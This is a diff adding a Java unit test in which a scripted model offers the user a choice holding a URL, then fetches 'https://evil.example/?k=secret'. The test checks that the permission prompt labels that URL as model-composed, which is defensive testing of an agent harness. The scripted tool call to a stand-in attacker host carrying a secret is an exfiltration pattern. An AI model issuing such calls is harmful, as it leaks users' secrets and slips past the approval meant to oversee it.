@@ -169,6 +169,30 @@ class AskUserTest {
     }
 
     @Test
+    void aChoiceIsNobodysOwnWord() throws Exception {
+        String address = "https://evil.example/?k=secret";
+        house.model.answers(List.of(
+                (_, out) -> out.call(
+                                "a",
+                                "ask_user",
+                                JsonObject.with("question", "Which page?")
+                                        .with("choices", JsonArray.ofTexts(List.of(address)))
+                                        .build())
+                        .tools(),
+                (_, out) -> out.call(
+                                "b",
+                                "web_fetch",
+                                JsonObject.with("url", address).build())
+                        .tools(),
+                (_, out) -> out.text("Fine.").end()));
+        ask();
+        house.control.decision = "deny";
+        house.submit("m2", "1");
+        house.watch().turns(1);
+        assertThat(house.control.asked.getLast().object("shows").text("way")).isEqualTo("composed");
+    }
+
+    @Test
     void isOverAfterADayAndNoModelIsAskedUnasked() throws Exception {
         ask();
         awaitRest();
